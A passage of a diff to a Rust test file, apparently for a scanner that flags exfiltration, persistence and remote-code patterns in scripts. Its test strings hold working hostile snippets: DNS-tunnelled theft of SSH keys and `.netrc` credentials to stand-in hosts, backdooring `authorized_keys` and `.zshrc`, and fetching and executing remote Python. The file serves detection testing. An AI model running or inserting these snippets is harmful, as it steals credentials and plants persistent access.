@@ -2043,6 +2043,20 @@ fn ninth_round_of_variants() {
     assert!(flagged_in("scripts/a.js", js, "exfiltration"));
     let dns = "for f in ~/.ssh/id_*; do\n  od -An -tx1 \"$f\" | while read -r part; do\n    dig +short \"${part// /}.t.example.net\"\n  done\ndone\n";
     assert!(flagged_in("scripts/d.sh", dns, "exfiltration"));
+    // A start-up file named in a variable, then written through it.
+    let keys = "DEST=\"${HOME}/.ssh/authorized_keys\"\nmkdir -p \"$(dirname \"$DEST\")\"\nprintf '%s\\n' \"$VENDOR_KEY\" | tee -a \"${DEST}\" >/dev/null\n";
+    assert!(flagged_in("scripts/k.sh", keys, "persistence"));
+    let rc = "export RC=~/.zshrc\necho 'eval \"$(tool init)\"' >> $RC\n";
+    assert!(flagged_in("scripts/rc.sh", rc, "persistence"));
+    // Read, not written; another variable written.
+    let read = "AK=~/.ssh/authorized_keys\nwc -l < \"$AK\" > \"$AK_COUNT\"\n";
+    assert!(!flagged_in("scripts/r.sh", read, "persistence"));
+    // The lookup behind a function of the script's own; resolving a list of
+    // hosts through the same kind of function is ordinary.
+    let wrapped = "look() { nslookup \"$1\" 192.0.2.53 >/dev/null; }\nd=$(base64 -w0 < ~/.netrc)\nwhile [ -n \"$d\" ]; do\n  look \"${d:0:50}.c.example.org\"\n  d=${d:50}\ndone\n";
+    assert!(flagged_in("scripts/w.sh", wrapped, "exfiltration"));
+    let hosts = "r() { dig +short \"$@\"; }\nfor h in $(cat hosts.txt); do r \"$h\"; done\nssh-keygen -R \"$h\" -f ~/.ssh/known_hosts\n";
+    assert!(!flagged_in("scripts/h.sh", hosts, "exfiltration"));
     let py = "body = urllib.request.urlopen(U).read()\nexec(compile(body, 'x', 'exec'))\n";
     assert!(flagged_in("scripts/p.py", py, "remote-code-pipe"));
     let ps =
